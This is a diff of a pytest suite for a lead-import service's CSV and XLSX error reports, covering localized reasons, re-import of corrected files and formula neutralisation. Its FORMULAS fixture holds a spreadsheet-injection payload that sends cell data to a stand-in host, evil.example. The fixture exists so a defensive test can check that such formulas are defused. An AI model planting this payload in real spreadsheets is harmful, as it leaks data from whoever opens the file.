@@ -7,9 +7,14 @@ from typing import Any
 import openpyxl
 import pytest
 
+from libs.contracts.lead_import.words import words
+from libs.spreadsheets.columns import REPORT_COLUMNS
 from tests.support.readers import Stored
 from tests.support.user import COLUMNS, XLSX_TYPE, User, csv_file, lead_rows, new_phones, totals, xlsx_file
 
+PHONE_INVALID = words("en").row_errors["phone_invalid"]
+PHONE_IN_PORTUGUESE = words("pt-BR").row_errors["phone_invalid"]
+SKIP = {"on_invalid_row": "skip"}
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"ver")',
     "+1+1",
@@ -43,10 +48,6 @@ def read(content: bytes, kind: str) -> list[list[str]]:
     return [[str(cell or "") for cell in row] for row in sheet.iter_rows(values_only=True)]
 
 
-def write(rows: list[list[str]], kind: str) -> bytes:
-    return csv_file(rows) if kind == "csv" else xlsx_file(rows)
-
-
 @pytest.mark.parametrize("kind", ["csv", "xlsx"])
 async def test_a_report_has_the_files_own_columns(user: User, kind: str) -> None:
     (phone,) = new_phones(1)
@@ -56,10 +57,14 @@ async def test_a_report_has_the_files_own_columns(user: User, kind: str) -> None
     ]
     found = await user.run(csv_file([*lead_rows([phone]), *bad, *lead_rows([phone])]), on_invalid_row="skip")
     header, *rows = read(await download(user, found["id"], kind), kind)
-    assert header == list(COLUMNS)
-    assert rows == [*bad, *lead_rows([phone])]
-    assert read(await download(user, found["id"], kind, outcome="error"), kind)[1:] == bad
-    assert read(await download(user, found["id"], kind, outcome="existing"), kind)[1:] == lead_rows([phone])
+    assert header == [*COLUMNS, *REPORT_COLUMNS]
+    why = [["3", "error", "phone: " + PHONE_INVALID], ["4", "error", "phone: " + PHONE_INVALID]]
+    known = [[*lead_rows([phone])[0], "5", "existing", "The same phone stands in an earlier row of this file."]]
+    errors = [[*cells, *said] for cells, said in zip(bad, why, strict=True)]
+    assert rows == errors + known
+    assert read(await download(user, found["id"], kind, outcome="error"), kind)[1:] == errors
+    assert read(await download(user, found["id"], kind, outcome="existing"), kind)[1:] == known
+    assert read(await download(user, found["id"], kind, reason="in_file"), kind)[1:] == known
 
 
 @pytest.mark.parametrize("kind", ["csv", "xlsx"])
@@ -76,9 +81,15 @@ async def test_a_report_can_be_corrected_and_imported_again(user: User, stored: 
     for cells in reported:
         cells[2] = cells[2].replace("111.111.111-11", "529.982.247-25")
         cells[3] = ""
-    again = await user.upload(write([header, *reported][1:], kind), file_name=f"leads.{kind}")
+    corrected = csv_file(reported, header) if kind == "csv" else xlsx_file(reported, header)
+    said = await user.previewed(corrected, file_name=f"leads.{kind}")
+    assert (said["parent_id"], said["left_out"]) == (found["id"], [])
+    again = await user.upload(corrected, file_name=f"leads.{kind}")
     assert again.status_code == 202, again.text
-    assert totals(await user.ended(again.json()["id"])) == (3, 0, 0)
+    assert again.json()["parent_id"] == found["id"]
+    ended = await user.ended(again.json()["id"])
+    assert (totals(ended), ended["parent_id"]) == ((3, 0, 0), found["id"])
+    assert (await user.read(found["id"]))["child_ids"] == [ended["id"]]
     leads = {lead["contact_cellphone"]: lead for lead in await stored.leads(user.tenant.company_id)}
     assert set(leads) == {first, second, third}
     assert [leads[phone]["name"] for phone in (first, second, third)] == ["Com mais", "+Saúde", "=Igual"]
@@ -105,7 +116,7 @@ async def test_formulas_are_neutralised(user: User, kind: str) -> None:
     _, *reported = read(await download(user, found["id"], kind), kind)
     assert len(reported) == len(rows)
     for cells, formula in zip(reported, FORMULAS, strict=True):
-        for cell in cells:
+        for cell in cells[: len(COLUMNS)]:
             assert formula.strip() in cell
             if kind == "csv":  # in a workbook a text cell is text; its type was checked
                 assert cell[0] not in "=+-@\t\r\n"
@@ -117,20 +128,22 @@ async def test_a_csv_report_is_divided_as_the_upload_was(user: User, separator: 
     content = "".join(separator.join(f'"{cell}"' for cell in line) + "\r\n" for line in lines).encode()
     found = await user.run(content, on_invalid_row="skip")
     report = (await download(user, found["id"], "csv")).decode("utf-8-sig")
-    assert report.splitlines()[0] == separator.join(COLUMNS)
+    assert report.splitlines()[0] == separator.join([*COLUMNS, *REPORT_COLUMNS])
     assert next(csv.reader(report.splitlines()[1:], delimiter=separator))[0] == "Ana; =1, =2"
 
 
 async def test_a_csv_report_of_a_workbook_is_divided_at_semicolons(user: User) -> None:
     found = await user.run(xlsx_file([["Ana", "x", "", "", ""]]), file_name="leads.xlsx", on_invalid_row="skip")
     report = (await download(user, found["id"], "csv")).decode("utf-8-sig")
-    assert report == "name;phone;cpf;email;tags\r\nAna;x;;;\r\n"
+    head, row = report.splitlines()
+    assert head == "name;phone;cpf;email;tags;row;outcome;reason"
+    assert next(csv.reader([row], delimiter=";")) == ["Ana", "x", "", "", "", "2", "error", "phone: " + PHONE_INVALID]
 
 
 @pytest.mark.parametrize("kind", ["csv", "xlsx"])
 async def test_a_report_without_rows_is_a_header(user: User, kind: str) -> None:
     found = await user.run(csv_file(lead_rows(new_phones(1))))
-    assert read(await download(user, found["id"], kind), kind) == [list(COLUMNS)]
+    assert read(await download(user, found["id"], kind), kind) == [[*COLUMNS, *REPORT_COLUMNS]]
 
 
 async def test_a_report_holds_all_rows_not_a_page(user: User) -> None:
@@ -139,3 +152,55 @@ async def test_a_report_holds_all_rows_not_a_page(user: User) -> None:
     assert totals(found) == (1, 1_299, 0)
     for kind in ("csv", "xlsx"):
         assert len(read(await download(user, found["id"], kind), kind)) == 1_300
+
+
+WIDE = "Cidade;WhatsApp;Nome\r\nSantos;{};Ana\r\nRio;12;Rui\r\nRio;13;Bia;sobra;mais\r\n"
+
+
+@pytest.mark.parametrize(("language", "sentence"), [("en", PHONE_INVALID), ("pt-BR", PHONE_IN_PORTUGUESE)])
+async def test_a_report_of_columns_of_ones_own_is_in_their_order_and_in_the_callers_language(
+    user: User, language: str, sentence: str
+) -> None:
+    content = WIDE.format(*new_phones(1)).encode()
+    found = await user.run(content, columns="mapped", on_invalid_row="skip")
+    query = f"/imports/{found['id']}/rows?format=csv"
+    answer = await user.http.get(query, headers=user.tenant.headers() | {"Accept-Language": language})
+    assert answer.headers["content-language"] == language
+    assert list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), delimiter=";")) == [
+        ["WhatsApp", "Nome", "row", "outcome", "reason"],
+        ["12", "Rui", "3", "error", f"phone: {sentence}"],
+        ["13", "Bia,sobra,mais", "4", "error", words(language).row_errors["cells_too_many"]],
+    ]
+
+
+async def test_created_rows_say_their_lead_and_chat(user: User, stored: Stored) -> None:
+    phones = new_phones(3)
+    found = await user.run(csv_file([*lead_rows(phones[:2]), ["", "x", "", "", ""], *lead_rows(phones[2:])]), **SKIP)
+    leads = {lead["contact_cellphone"]: lead for lead in await stored.leads(user.tenant.company_id)}
+    expected = [
+        {
+            "row": row,
+            "outcome": "created",
+            "lead_id": leads[phone]["id"],
+            "chat_id": leads[phone]["chat_id"],
+            "name": f"Lead {phone}",
+        }
+        for row, phone in zip((2, 3, 5), phones, strict=True)
+    ]
+    assert await user.rows(found["id"], outcome="created") == expected
+    page = (await user.get(f"/imports/{found['id']}/rows", outcome="created", limit=2)).json()
+    assert (page["items"], page["next"]) == (expected[:2], "3")
+    header, *rows = read(await download(user, found["id"], "csv", outcome="created"), "csv")
+    assert (header[0], [row[0] for row in rows]) == ("row", ["2", "3", "5"])
+
+
+async def test_a_phone_in_a_workbook_has_no_mark_before_its_plus(user: User) -> None:
+    found = await user.run(csv_file([["", "+55 11 91234-5678", "", "", ""]]), **SKIP)
+    assert read(await download(user, found["id"], "xlsx"), "xlsx")[1][1] == "+55 11 91234-5678"
+
+
+async def test_a_report_of_another_import_is_not_taken_for_a_parent(user: User) -> None:
+    await user.run(csv_file([["Ana", "x", "", "", ""]]), **SKIP)
+    header = [*COLUMNS, *REPORT_COLUMNS]
+    row = ["Rui", *new_phones(1), "", "", "", "2", "error", "?"]
+    assert (await user.previewed(csv_file([row], header)))["parent_id"] is None
